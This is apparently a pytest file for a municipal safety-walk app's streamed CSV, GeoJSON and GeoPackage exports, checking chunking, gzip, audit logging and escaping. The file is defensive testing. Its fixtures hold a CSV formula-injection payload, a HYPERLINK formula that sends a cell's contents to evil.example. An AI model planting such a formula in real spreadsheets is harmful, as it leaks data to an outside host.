"""Streamed GIS exports: large ones arrive whole, in pieces, escaped, and never half-silently."""

import csv
import gzip
import io
import json
import uuid
from datetime import UTC, datetime, timedelta

import pyogrio
import pytest
from sqlalchemy import insert, select

from walkapp.actions.models import Action, action_observations
from walkapp.auth.models import Role
from walkapp.observations import serializers
from walkapp.observations.models import Observation
from walkapp.privacy.models import AuditEntry, AuditKind
from walkapp.walks.models import WalkParticipant

ROWS = 3_000
FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Klicka")'


@pytest.fixture
def many_observations(db, make_walk, make_observation, other_municipality):
    """ROWS observations of one walk, every tenth with a published note that starts a formula,
    and one of another municipality that no export of ours may hold."""
    walk = make_walk()
    author = WalkParticipant(
        walk=walk, display_name="Anna", represents="resident", consent_given_at=walk.starts_at
    )
    db.add(author)
    db.flush()
    approved = datetime(2026, 5, 1, tzinfo=UTC)
    db.execute(
        insert(Observation),
        [
            {
                "municipality_id": walk.municipality_id,
                "walk_id": walk.id,
                "author_id": author.id,
                "client_uuid": uuid.uuid4(),
                "lat": 59.3 + n / 100_000,
                "lon": 17.0 + n / 50_000,
                "category_code": "lighting_missing",
                "polarity": "problem",
                "severity": 1 + n % 3,
                "note": FORMULA if n % 10 == 0 else f"Mörkt vid gångvägen {n}",
                "note_approved_at": approved,
                "recorded_at": walk.starts_at + timedelta(seconds=n),
            }
            for n in range(ROWS)
        ],
    )
    db.commit()
    stranger = make_observation(walk=make_walk(municipality=other_municipality))
    ids = db.scalars(
        select(Observation.id).where(Observation.municipality_id == walk.municipality_id)
    ).all()
    return sorted(ids), stranger.id


def _chunks(response) -> list[bytes]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    chunks = [chunk for chunk in response.response if chunk]
    response.close()
    return chunks


def test_a_large_csv_export_is_streamed_complete_and_escaped(
    client, login_as, many_observations, db
):
    ids, stranger = many_observations
    login_as(Role.SAFETY_CHIEF)
    response = client.get("/review/export.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="observations-')
    assert "Content-Length" not in response.headers  # sent as it is written
    chunks = _chunks(response)
    # Pieces of a bounded size, the first one before the rest was read: not one whole body.
    assert len(chunks) > ROWS // 1000
    assert max(len(chunk) for chunk in chunks) < len(b"".join(chunks)) / 3

    text = b"".join(chunks).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [int(row["id"]) for row in rows] == ids and stranger not in ids
    formulas = [row for row in rows if row["note"].startswith("'=")]
    assert len(formulas) == ROWS // 10 and formulas[0]["note"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    assert rows[-1]["lat"] == str(round(59.3 + (ROWS - 1) / 100_000, 7)).replace(".", ",")

    entry = db.scalars(select(AuditEntry).where(AuditEntry.kind == AuditKind.EXPORTED)).one()
    assert entry.subject == f"observations as csv ({ROWS} rows)"


def test_a_large_geojson_and_geopackage_export_hold_every_row(
    client, login_as, many_observations, tmp_path, monkeypatch
):
    ids, _stranger = many_observations
    login_as(Role.SAFETY_CHIEF)
    chunks = _chunks(client.get("/review/export.geojson"))
    assert len(chunks) > 1
    collection = json.loads(b"".join(chunks))
    assert [f["id"] for f in collection["features"]] == ids
    assert collection["features"][0]["properties"]["note"] == FORMULA  # GeoJSON is data, no cells

    # The GeoPackage is written to a temporary file that is gone as soon as it is opened.
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    response = client.get("/review/export.gpkg")
    assert list((tmp_path / "tmp").iterdir()) == []
    body = b"".join(_chunks(response))
    assert int(response.headers["Content-Length"]) == len(body)
    path = tmp_path / "observations.gpkg"
    path.write_bytes(body)
    _meta, fids, _geometry, _fields = pyogrio.raw.read(path, return_fids=True)
    assert sorted(int(fid) for fid in fids) == ids
    assert pyogrio.read_info(path)["features"] == ROWS


def test_a_large_action_queue_export_is_streamed_and_complete(
    client, login, make_user, make_action, db
):
    first = make_action(title="-2+3 lampor")
    organisation_id, observation_id = first.organisation_id, first.observations[0].id
    created = db.execute(
        insert(Action).returning(Action.id),
        [
            {
                "municipality_id": first.municipality_id,
                "organisation_id": organisation_id,
                "title": f"Byt lampa {n}",
            }
            for n in range(1_200)
        ],
    ).scalars()
    action_ids = [first.id, *created]
    db.execute(
        insert(action_observations),
        [{"action_id": a, "observation_id": observation_id} for a in action_ids[1:]],
    )
    db.commit()
    login(make_user(Role.SAFETY_CHIEF))
    response = client.get("/actions/export.csv")
    assert "Content-Length" not in response.headers
    chunks = _chunks(response)
    assert len(chunks) > 1
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig")), delimiter=";"))
    assert sorted(int(row["id"]) for row in rows) == sorted(action_ids)
    assert next(row for row in rows if int(row["id"]) == first.id)["title"] == "'-2+3 lampor"


def test_a_streamed_export_is_compressed_as_it_goes(client, login_as, many_observations):
    login_as(Role.SAFETY_CHIEF)
    plain = b"".join(_chunks(client.get("/review/export.csv")))
    response = client.get("/review/export.csv", headers={"Accept-Encoding": "gzip"})
    assert response.headers["Content-Encoding"] == "gzip"
    packed = b"".join(_chunks(response))
    assert len(packed) < len(plain) / 4
    assert gzip.decompress(packed) == plain


def test_an_error_while_streaming_breaks_the_download_off(
    client, login_as, many_observations, monkeypatch, db
):
    """The status is sent before the rows: a failure half-way must not end the file as if whole."""
    login_as(Role.SAFETY_CHIEF)
    calls = iter(range(ROWS))
    real = serializers.gis_properties

    def failing(observation, locale):
        if next(calls) == ROWS // 2:
            raise RuntimeError("the database went away")
        return real(observation, locale)

    monkeypatch.setattr(serializers, "gis_properties", failing)
    response = client.get("/review/export.csv")
    assert response.status_code == 200
    with pytest.raises(RuntimeError, match="went away"):
        response.get_data()
    # Who exported is logged before the first byte, whatever happens to the download.
    assert db.scalars(select(AuditEntry).where(AuditEntry.kind == AuditKind.EXPORTED)).one()
